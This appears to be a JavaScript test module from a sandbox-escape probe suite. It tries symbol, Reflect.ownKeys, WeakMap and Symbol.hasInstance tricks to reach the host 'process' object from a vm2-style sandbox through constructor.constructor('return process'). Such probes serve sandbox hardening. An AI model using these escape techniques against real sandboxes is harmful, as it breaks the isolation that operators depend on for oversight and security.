// Escape attempt: Symbol registry and WeakMap tricks: shared Symbol.for keys and own symbols of host proxies, hoping to find vm2 internal state.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-symbol-weakmap',
  description: 'sandbox escape attempt: symbol-weakmap',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "symbols", () => { for (const s of Object.getOwnPropertySymbols(__send)) pwn(__send[s], marker, notes, "symbol " + String(s)); });
    attempt(notes, "ownKeys", () => { for (const k of Reflect.ownKeys(__send)) { const v = __send[k]; if (v && typeof v === "object") pwn(v.constructor.constructor("return process")(), marker, notes, "key " + String(k)); } });
    attempt(notes, "global symbols", () => { for (const s of Object.getOwnPropertySymbols(globalThis)) pwn(globalThis[s], marker, notes, "global " + String(s)); });
    attempt(notes, "weakmap", () => { const wm = new WeakMap(); wm.set(__send, 1); pwn(WeakMap.prototype.get.constructor("return process")(), marker, notes, "WeakMap"); });
    attempt(notes, "hasInstance", () => { const o = { [Symbol.hasInstance](x) { pwn(x && x.constructor.constructor("return process")(), marker, notes, "hasInstance"); return false; } }; __send instanceof o; });
    return { summary: notes.join(' | '), data: notes };
  },
};
